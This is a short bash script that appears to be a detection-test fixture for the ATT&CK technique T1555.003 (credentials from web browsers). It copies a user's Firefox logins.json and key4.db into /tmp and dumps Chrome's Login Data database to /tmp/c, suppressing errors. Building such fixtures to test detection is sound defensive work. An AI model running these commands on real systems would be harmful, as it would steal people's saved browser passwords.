#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1555.003 Credentials from Web Browsers: done in another way than in tests/data/techniques, or there not at all.
cp /home/jonas/.mozilla/firefox/*/logins.json /home/jonas/.mozilla/firefox/*/key4.db /tmp/ 2>/dev/null; cat '/home/jonas/.config/google-chrome/Default/Login Data' | strings > /tmp/c 2>/dev/null; exit 0
